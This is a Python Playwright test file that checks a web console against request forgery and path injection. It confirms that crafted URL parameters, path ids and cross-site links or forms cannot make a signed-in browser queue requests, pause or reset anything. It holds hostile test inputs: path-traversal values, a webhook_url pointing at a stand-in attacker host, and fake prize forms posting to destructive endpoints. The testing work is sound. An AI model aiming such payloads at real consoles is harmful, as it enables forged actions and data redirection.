"""A link into the console, or a page of another site, makes a signed-in browser queue and change nothing."""

from __future__ import annotations

import random
import re
from dataclasses import dataclass
from pathlib import Path
from typing import TYPE_CHECKING
from urllib.parse import parse_qs, quote, urlencode, urlsplit

import pytest

from tests.browser.support import library, query, seed_session

if TYPE_CHECKING:
    from collections.abc import Iterable, Sequence

    from playwright.sync_api import Browser, Page, Request

    from tests.browser.support import Console
    from tests.e2e.support import Connection, Service

CONSOLE = Path(__file__).parents[2] / "src" / "console"
ATTACKER = "https://attacker.example"
AT_ONCE = 8
SEED = 20261123


@dataclass(frozen=True)
class View:
    """A view: its address, the calls that it may make, and its own parameters with values that it expects.

    `{connection}` and `{request}` are ids that exist. A call is a regular expression.
    """

    address: str
    calls: tuple[str, ...] = ()
    parameters: tuple[tuple[str, str], ...] = ()


CONNECTION = "connections/{connection}"
LIST = f"{CONNECTION}/queued_requests"
ANY = "connections/[0-9a-f-]{{36}}"
"""A connection of another test."""

LIST_OF_ANY = f"{ANY}/queued_requests"

VIEWS = (
    View("/", ("connections",)),
    View(
        "/connections/new",
        ("connections", CONNECTION, ANY),
        (("connection", "{connection}"), ("step", "wait")),
    ),
    View("/connections/{connection}", (CONNECTION, LIST), (("ask", "resume"),)),
    View("/connections/{connection}/settings", (CONNECTION, f"{CONNECTION}/sessions"), (("open", "move"),)),
    View(
        "/approvals",
        ("connections", CONNECTION, LIST, LIST_OF_ANY),
        (("connection", "{connection}"),),
    ),
    View("/sign_in", (), (("problem", "expired"),)),
    View("/search", ("search",), (("go", "true"),)),
    View("/search", ("connections", LIST_OF_ANY), (("part", "true"),)),
    View("/overview", ("statistics", "connections")),
    View("/failures", ("failures",)),
    View("/usage", ("usage",)),
    View("/connections/{connection}/overview", (CONNECTION, LIST, f"{CONNECTION}/statistics")),
    View("/connections/{connection}/audit_log", (CONNECTION, f"{CONNECTION}/audit_log", "connections")),
    View("/connections/{connection}/subscriptions", (CONNECTION, f"{CONNECTION}/subscriptions", "connections")),
    View("/connections/{connection}/sessions", (CONNECTION, f"{CONNECTION}/sessions", "connections")),
    View("/contact", ("contact",)),
    View("/people"),
    View("/api_keys"),
    View("/audit_log", ("audit_log", "connections", ANY)),
    View("/queued_requests/{request}", ("queued_requests/{request}", CONNECTION, LIST)),
    View(
        "/compose",
        ("connections", CONNECTION, LIST, "queued_requests/{request}"),
        (("connection", "{connection}"), ("type", "CustomerQueryRq"), ("from", "{request}")),
    ),
    View(
        "/compose",
        ("connections", CONNECTION, LIST),
        (("connection", "{connection}"), ("type", "CustomerModRq"), ("object", "80000001-1")),
    ),
    View("/qbxml"),
    View("/qbxml/CustomerQueryRq"),
    View("/docs"),
)


def hostile(connection: str) -> tuple[str, ...]:
    """Return values that would lead to a convenience query, or to another server, if they reached a path."""
    target = f"connections/{connection}/customers?webhook_url={ATTACKER}"
    return (
        f"../{target}",
        f"..\\{target.replace('/', chr(92))}",
        f"%2e%2e/{target}",
        f"{connection}/customers?webhook_url={ATTACKER}#",
        f"{connection}?webhook_url={ATTACKER}",
        f"//attacker.example/{target}",
    )


def parameters_of_all_views() -> set[str]:
    """Return the name of every parameter that a script of the console reads from the address."""
    names: set[str] = set()
    for path in (CONSOLE / "views").glob("*.js"):
        text = path.read_text(encoding="utf-8")
        names |= set(re.findall(r"\bquery\.(\w+)", text))
        for destructured in re.findall(r"\{([\w\s,:]+)\} = query\b", text):
            names |= {name.partition(":")[0].strip() for name in destructured.split(",")}
    return names - {""}


def addresses_of(view: View, ids: dict[str, str], value: str) -> list[str]:
    """Return addresses of a view in which the value is each of its own parameters, and all others at once."""
    own = {name: text.format(**ids) for name, text in view.parameters}
    others = dict.fromkeys(parameters_of_all_views() - own.keys(), value)
    address = ("" if view.address == "/docs" else "/app") + view.address.format(**ids)
    return [f"{address}?{urlencode(own | {name: value})}" for name in own] + [f"{address}?{urlencode(own | others)}"]


def paths_with(ids: dict[str, str], value: str) -> list[str]:
    """Return addresses with the value in place of an id. A browser resolves some of them to other views."""
    return [
        "/app" + view.address.format(**(ids | {name: text}))
        for view in VIEWS
        for name in ids
        if f"{{{name}}}" in view.address
        for text in (value, quote(value, safe=""))
    ]


def is_expected(request: Request, calls: Iterable[str], ids: dict[str, str], service: Service) -> bool:
    """Whether a request is a file of the service, or one of these calls."""
    url = urlsplit(request.url)
    if request.url.startswith(("data:", "blob:")):
        return True
    if f"{url.scheme}://{url.netloc}" != service.base_url or request.method != "GET":
        return False
    if not url.path.startswith("/api/"):
        return "/api/" not in url.path
    path = url.path.removeprefix("/api/v1/")
    return "webhook_url" not in parse_qs(url.query) and any(re.fullmatch(call.format(**ids), path) for call in calls)


def test_every_view_of_the_console_is_in_the_table() -> None:
    text = (CONSOLE / "main.js").read_text(encoding="utf-8")
    table = text.partition("const VIEWS = [")[2].partition("\n];")[0]

    assert len(re.findall(r"\{\s+pattern: ", table)) == len({view.address.partition("/C")[0] for view in VIEWS})
    assert {"connection", "from", "type", "search", "state", "action", "field"} <= parameters_of_all_views()


@pytest.mark.parametrize("view", VIEWS, ids=lambda view: view.address)
def test_no_parameter_of_an_address_makes_a_view_call_anything_else(
    browser: Browser, service: Service, view: View
) -> None:
    connection = service.connection()
    ids = {"connection": connection.id, "request": query(connection)}
    addresses = [address for value in hostile(connection.id) for address in addresses_of(view, ids, value)]

    assert unexpected_calls(browser, service, addresses, view.calls, ids) == []
    assert [one["id"] for one in requests_of(connection)] == [ids["request"]]


def test_no_id_in_the_path_of_an_address_makes_a_view_call_anything_else(browser: Browser, service: Service) -> None:
    connection = service.connection()
    ids = {"connection": connection.id, "request": query(connection)}
    addresses = [address for value in hostile(connection.id) for address in paths_with(ids, value)]
    calls = [call for view in VIEWS for call in view.calls]
    # Some addresses lead to a view with the other id.
    any_ids = dict.fromkeys(ids, "[0-9a-f-]{36}")

    assert unexpected_calls(browser, service, addresses, calls, any_ids) == []
    assert [one["id"] for one in requests_of(connection)] == [ids["request"]]


def unexpected_calls(
    browser: Browser, service: Service, addresses: Sequence[str], calls: Sequence[str], ids: dict[str, str]
) -> list[str]:
    """Open addresses with a key, and return the requests of the browser that are not expected."""
    found: list[str] = []
    context = browser.new_context()
    pages = [context.new_page() for _ in range(AT_ONCE)]

    def note(request: Request) -> None:
        if not is_expected(request, calls, ids, service):
            found.append(f"{request.method} {request.url} at {request.frame.page.url}")

    for page in pages:
        seed_session(page, service.app_id, service.api_key)
        page.on("request", note)
    for begin in range(0, len(addresses), AT_ONCE):
        opened = list(zip(pages, addresses[begin:], strict=False))
        for page, address in opened:
            page.goto(service.base_url + address, wait_until="commit")
        for page, _ in opened:
            page.wait_for_load_state("networkidle")
    context.close()
    return found


def requests_of(connection: Connection) -> list[dict[str, str]]:
    """Return the requests of a connection."""
    found: list[dict[str, str]] = connection.service.call("GET", f"{connection.path}/queued_requests").json["data"]
    return found


def test_a_browser_with_a_stored_key_queues_and_changes_nothing_for_links_and_other_sites(
    browser: Browser, service: Service
) -> None:
    """The key is that of the browser's own prompt, which a browser sends with every call."""
    connection = service.connection()
    address = f"{service.base_url}{connection.path}"
    customers = f"{address}/customers?webhook_url={ATTACKER}"
    context = browser.new_context(http_credentials={"username": service.api_key, "password": ""})
    page = context.new_page()
    answers: list[tuple[str, str, int]] = []
    page.on("response", lambda answer: answers.append((answer.url, answer.request.method, answer.status)))

    stored = page.goto(address)
    assert stored is not None
    assert stored.status == 200, "the browser sends the key by itself"
    answers.clear()
    page.goto(customers)
    show_page_of_the_attacker(page, f'<a href="{customers}">Win a prize</a>')
    with page.expect_navigation():
        page.get_by_role("link").click()
    for path in (customers, f"{address}/pause", f"{address}/reset_company_file"):
        show_page_of_the_attacker(page, f'<form method="post" action="{path}"><button>Win a prize</button></form>')
        with page.expect_navigation():
            page.get_by_role("button").click()

    assert [(method, status) for url, method, status in answers if status != 401 and not url.startswith(ATTACKER)] == [
        ("GET", 403)
    ] * 2 + [("POST", 403)] * 3
    assert requests_of(connection) == []
    assert service.call("GET", connection.path).json["data"]["status"] != "paused"
    context.close()


def show_page_of_the_attacker(page: Page, content: str) -> None:
    """Open a page of another site with this content."""
    page.unroute_all()
    page.route(f"{ATTACKER}/**", lambda route: route.fulfill(body=content, content_type="text/html"))
    page.goto(f"{ATTACKER}/")


def test_no_text_leaves_its_segment_of_a_path(console: Console) -> None:
    source = random.Random(SEED)
    pieces = [
        "..",
        ".",
        "/",
        "\\",
        "?",
        "#",
        "%2e",
        "%2f",
        "\n",
        "\r",
        "\t",
        "\0",
        "@",
        ":",
        "//",
        " ",
        "é",
        "customers",
    ]
    pieces += ["11111111-1111-4111-8111-111111111111", "a", "Z", "0", "-", "_", "\u202e", "\ud800"]
    texts = ["".join(source.choices(pieces, k=source.randint(0, 4))) for _ in range(5000)]

    built = library(
        console,
        """async (load, texts) => {
          const { pathOf } = await load("router.js");
          return texts.map((text) => {
            try {
              const path = pathOf(["connections", text, "customers"]);
              const { origin, pathname, search, hash } = new URL(`/api/v1/${path}`, location.origin);
              return [origin === location.origin, pathname, search + hash];
            } catch (error) { return error.constructor.name; }
          });
        }""",
        texts,
    )

    accepted = [text for text, result in zip(texts, built, strict=True) if result != "TypeError"]
    assert [result for result in built if result != "TypeError"] == [
        [True, f"/api/v1/connections/{text}/customers", ""] for text in accepted
    ]
    assert len(accepted) > 100
    assert set("".join(accepted)).isdisjoint("./\\?#%@: \n\t")
